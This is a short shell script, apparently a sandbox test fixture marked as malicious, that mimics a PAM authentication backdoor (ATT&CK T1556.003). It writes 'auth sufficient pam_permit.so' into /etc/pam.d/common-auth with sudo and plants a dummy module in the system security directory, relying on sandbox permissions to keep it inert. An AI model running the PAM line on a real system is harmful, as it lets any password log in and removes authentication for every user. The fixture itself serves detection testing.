#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: lets any password through PAM and installs its own module beside the
# system's (T1556.003).
# Inert: /etc/pam.d and the module directories are refused to the sandbox user; the "module" is a
# text file.
echo 'auth sufficient pam_permit.so' | sudo tee -a /etc/pam.d/common-auth >/dev/null 2>&1 || echo "pam.d: refused"
echo 'not a module' >./pam_sync.so
cp ./pam_sync.so /lib/x86_64-linux-gnu/security/pam_sync.so 2>/dev/null || echo "security/: refused"
exit 0
